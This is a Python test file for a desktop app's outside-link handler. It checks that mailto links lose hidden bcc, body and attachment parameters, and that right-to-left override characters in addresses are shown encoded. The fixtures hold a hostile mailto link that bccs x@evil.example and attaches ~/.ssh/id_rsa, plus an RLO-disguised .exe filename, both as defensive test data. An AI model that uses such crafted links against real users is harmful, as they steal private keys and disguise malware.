"""A stranger's mail link asks first, and opens with what the question showed only.

``mailto:`` may carry hidden copies, a body and files to attach: the mail program
opens with the recipients and the subject, as the question names them.  An
address never shows a character that reorders what follows it.
"""

from __future__ import annotations

import pytest
from PySide6.QtCore import QUrl, QUrlQuery
from PySide6.QtWidgets import QMessageBox, QWidget
from pytestqt.qtbot import QtBot

from desktop.common import outside_links
from desktop.common.messages import MessageBridge

HOSTILE_MAIL = (
    "mailto:helpdesk@rt.example.com?subject=Fuser%20kit"
    "&bcc=x@evil.example&body=see%20attached&attach=~/.ssh/id_rsa"
)


def test_a_mail_link_opens_with_its_recipient_and_subject_only(
    qtbot: QtBot, monkeypatch: pytest.MonkeyPatch
) -> None:
    asked: list[str] = []
    opened: list[QUrl] = []

    def answer(_parent: object, _title: str, text: str, *_buttons: object) -> object:
        asked.append(text)
        return QMessageBox.StandardButton.Open

    monkeypatch.setattr(QMessageBox, "question", answer)
    monkeypatch.setattr(outside_links.QDesktopServices, "openUrl", opened.append)
    parent = QWidget()
    qtbot.addWidget(parent)

    outside_links.open_outside_link(parent, QUrl(HOSTILE_MAIL), MessageBridge())

    [url] = opened
    assert url.path() == "helpdesk@rt.example.com"
    assert url.query() == "subject=Fuser kit"
    [question] = asked
    assert "helpdesk@rt.example.com" in question and "Subject: Fuser kit" in question
    assert "evil" not in question


def test_an_address_shows_a_reordering_character_as_its_code() -> None:
    text = outside_links.describe_target(QUrl("https://files.example/invoice\u202efdp.exe"))

    assert "\u202e" not in text
    assert "%E2%80%AE" in text.upper()


def test_the_mail_program_gets_the_subject_the_question_showed() -> None:
    """Decoded once in both: "%2525" reads "%25" in the question and in the mail."""
    url = QUrl("mailto:?to=helpdesk@rt.example.com&SUBJECT=100%2525%20done&bcc=x@evil.example")

    question = outside_links.describe_target(url)
    sent = outside_links.mail_link(url)

    assert "helpdesk@rt.example.com" in question and "Subject: 100%25 done" in question
    subject = QUrlQuery(sent).queryItemValue("subject", QUrl.ComponentFormattingOption.FullyDecoded)
    assert subject == "100%25 done"
    assert "evil" not in sent.toString()
